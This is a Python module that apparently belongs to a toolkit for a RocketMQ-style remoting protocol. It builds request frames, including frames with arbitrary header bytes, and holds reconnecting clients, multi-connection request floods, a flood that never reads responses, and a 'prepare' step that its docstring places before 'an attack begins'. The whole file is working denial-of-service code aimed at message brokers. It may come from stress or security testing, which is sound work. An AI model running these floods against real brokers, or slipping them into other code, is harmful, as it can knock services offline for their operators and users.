"""Connections of the remoting protocol that send arbitrary bytes, and floods of requests over several of them."""

from __future__ import annotations

import socket
import time
from collections.abc import Iterable, Iterator, Mapping
from itertools import count, islice

from rmqpull_proto.remoting.codes import RequestCode
from rmqpull_proto.remoting.command import ONEWAY, RemotingCommand, Serialization, decode_command, encode_command
from rmqpull_proto.remoting.frames import PREFIX_BYTES

ANSWER_S_MAX = 5.0
PAUSE_S = 0.01
_READ_BYTES = 1 << 18
_OPAQUES = count()


def make_request(
    code: int, fields: Mapping[str, object] | None = None, body: bytes = b"", *, is_oneway: bool = False
) -> bytes:
    """Returns a request as a frame. Values become texts."""
    texts = {name: str(value) for name, value in (fields or {}).items()}
    flag, opaque = ONEWAY * is_oneway, next(_OPAQUES) % (1 << 31)
    return encode_command(RemotingCommand(code, texts, body, opaque, flag, serialization=Serialization.JSON))


def make_frame(header: bytes, body: bytes = b"", serialization: int = 0) -> bytes:
    """Returns a frame with any bytes as its header."""
    mark = bytes([serialization]) + len(header).to_bytes(3, "big")
    return (len(mark) + len(header) + len(body)).to_bytes(PREFIX_BYTES, "big") + mark + header + body


def open_socket(address: str) -> socket.socket:
    """Returns a connection. Raises OSError."""
    host, port = address.rsplit(":", 1)
    opened = socket.create_connection((host, int(port)), ANSWER_S_MAX)
    opened.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return opened


class Line:
    """A connection that is opened again when the broker has closed it."""

    def __init__(self, address: str) -> None:
        self._address = address
        self._socket: socket.socket | None = None

    def send(self, data: bytes) -> bool:
        """Sends bytes. Returns whether the broker has taken them; after an error it pauses."""
        try:
            if self._socket is None:
                self._socket = open_socket(self._address)
            self._socket.sendall(data)
        except OSError:
            self.close()
            time.sleep(PAUSE_S)
            return False
        return True

    def read_answers(self, answers: int) -> bool:
        """Reads this many frames and drops them. Returns whether they arrived."""
        try:
            for _ in range(answers):
                self._drop(int.from_bytes(self._read(PREFIX_BYTES), "big"))
        except OSError:
            self.close()
            return False
        return True

    def ask(self, request: bytes) -> RemotingCommand | None:
        """Sends a request and returns the response; None when there is none."""
        if not self.send(request):
            return None
        try:
            return decode_command(self._read(int.from_bytes(self._read(PREFIX_BYTES), "big")))
        except OSError:
            self.close()
            return None

    def close(self) -> None:
        """Closes the connection, if there is one."""
        if self._socket is not None:
            self._socket.close()
            self._socket = None

    def _read(self, size: int) -> bytes:
        if self._socket is None:
            raise ConnectionError
        parts = bytearray()
        while len(parts) < size:
            part = self._socket.recv(size - len(parts))
            if not part:
                raise ConnectionError
            parts += part
        return bytes(parts)

    def _drop(self, size: int) -> None:
        while size > 0:
            size -= len(self._read(min(size, _READ_BYTES)))


def flood(address: str, requests: Iterable[bytes], *, lines: int = 4, window: int = 16) -> Iterator[None]:
    """Sends requests over some connections, ``window`` at a time on each, and reads the responses."""
    opened = [Line(address) for _ in range(lines)]
    frames = iter(requests)
    yield
    while True:
        for line in opened:
            line.send(b"".join(islice(frames, window)))
        for line in opened:
            line.read_answers(window)
        yield


def flood_unread(address: str, requests: Iterable[bytes], *, lines: int = 4, window: int = 16) -> Iterator[None]:
    """Sends requests over some connections and never reads: for requests without responses, and peers that do not read
    theirs. It keeps sending as long as the broker takes bytes.
    """
    opened: list[socket.socket] = []
    frames = iter(requests)
    yield
    while True:
        try:
            while len(opened) < lines:
                opened.append(open_socket(address))
                opened[-1].settimeout(PAUSE_S)
        except OSError:
            time.sleep(PAUSE_S)
        for one in opened[:]:
            try:
                one.sendall(b"".join(islice(frames, window)))
            except TimeoutError:  # a part of a frame may be sent, so that the next bytes would be no frame
                time.sleep(PAUSE_S)
                if not _is_open(one):
                    opened.remove(one)
                    one.close()
            except OSError:
                opened.remove(one)
                one.close()
        yield


def _is_open(one: socket.socket) -> bool:
    try:
        return bool(one.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT))
    except BlockingIOError:
        return True
    except OSError:
        return False


def prepare(address: str, requests: Iterable[bytes], window: int = 64) -> None:
    """Sends requests over one connection and waits for the responses, before an attack begins."""
    line, frames = Line(address), iter(requests)
    while some := list(islice(frames, window)):
        line.send(b"".join(some))
        line.read_answers(len(some))
    line.close()


def repeat_request(code: RequestCode | int, **fields: object) -> Iterator[bytes]:
    """Yields the same request for ever."""
    frame = make_request(code, fields)
    while True:
        yield frame
